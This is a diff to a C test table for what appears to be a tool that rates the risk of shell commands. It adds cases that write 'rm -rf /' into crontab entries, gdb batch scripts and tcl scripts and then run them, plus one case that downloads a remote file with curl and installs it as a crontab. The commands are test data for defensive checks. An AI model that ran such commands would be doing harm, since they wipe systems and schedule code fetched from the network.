@@ -3975,6 +3975,15 @@ file_scripts(void)
 		{ "echo 'x:; id' > d/makefile && make -C d", H, NULL },
 		{ "echo 'x:; id' > d/Makefile && make --directory=d", H, NULL },
 		{ "echo x > out.txt; make", L, "echo" },
+		/* a file of code a program reads: crontab f, gdb -x f */
+		{ "echo '* * * * * rm -rf /' > c; crontab c", C, "rm-rf" },
+		{ "echo '@reboot rm -rf /' > c; crontab -u root c", C,
+		    "rm-rf" },
+		{ "curl -o c https://x/c; crontab c", H, NULL },
+		{ "echo 'shell rm -rf /' > g; gdb -batch -x g ./a.out", C,
+		    "rm-rf" },
+		{ "echo 'exec rm -rf /' > t.tcl; tclsh t.tcl", H, NULL },
+		{ "echo '* * * * * ls' > c; crontab c", L, "ls" },
 		/* a name only known when it runs that may be one written */
 		{ "echo 'rm -rf /' > s; sh ?", H, NULL },
 		{ "echo 'rm -rf /' > a.sh; sh *.sh", H, NULL },
